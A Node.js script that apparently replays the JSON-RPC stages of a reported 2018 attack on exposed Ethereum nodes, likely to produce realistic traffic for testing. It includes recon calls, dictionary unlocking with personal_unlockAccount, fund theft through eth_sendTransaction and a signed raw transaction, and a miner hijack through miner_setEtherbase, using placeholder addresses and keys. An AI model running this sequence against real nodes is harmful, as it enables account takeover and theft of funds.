// The Ethereum JSON-RPC stages of the December 2018 report, sent by a real client library
// (ethers 6, from npm): account discovery, unlocking, theft, miner hijack, and a batch of
// recon calls (ethers joins requests made within a few milliseconds into one JSON array),
// and a transaction signed by the client's own key (EIP-1559) sent with eth_sendRawTransaction.
// usage: NODE_PATH=DIR/node_modules node jsonrpc-client.cjs http://ADDRESS:8545
const { JsonRpcProvider, Network, Wallet } = require("ethers");

async function main() {
  const url = process.argv[2];
  const network = Network.from(1);
  const single = new JsonRpcProvider(url, network, { staticNetwork: network, batchMaxCount: 1 });
  const batched = new JsonRpcProvider(url, network, { staticNetwork: network });
  const victim = "0x407d73d8a49eeb85d32cf465507dd71d507100c1";
  const thief = "0x" + "cd".repeat(20);

  // Recon, one request each, then as one batch.
  await single.send("eth_accounts", []);
  await single.getBlockNumber();
  await single.getBalance(victim);
  await single.send("net_version", []);
  await single.send("web3_clientVersion", []);
  await Promise.all([
    batched.send("eth_accounts", []),
    batched.send("eth_blockNumber", []),
    batched.send("net_version", []),
  ]);
  // Credential: unlock by dictionary.
  for (const password of ["123456", "password", "ethereum"]) {
    await single.send("personal_unlockAccount", [victim, password, 0]);
  }
  // Theft from an unlocked account.
  await single.send("eth_sendTransaction", [{ from: victim, to: thief, value: "0x1bc16d674ec80000" }]);
  // Theft signed by the client: the recipient is inside the RLP. Sent with send(), as a
  // script does: broadcastTransaction() would refuse a hash that is not the transaction's.
  const key = new Wallet("0x" + "11".repeat(32));
  const signed = await key.signTransaction({
    type: 2, chainId: 1, nonce: 0, to: "0x" + "ef".repeat(20), value: 1000000000000000000n,
    gasLimit: 21000, maxFeePerGas: 30000000000n, maxPriorityFeePerGas: 1000000000n,
  });
  await single.send("eth_sendRawTransaction", [signed]);
  // Miner hijack.
  await single.send("personal_newAccount", ["hijack"]);
  await single.send("miner_setEtherbase", [thief]);
  await single.send("miner_start", [1]);
  single.destroy();
  batched.destroy();
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
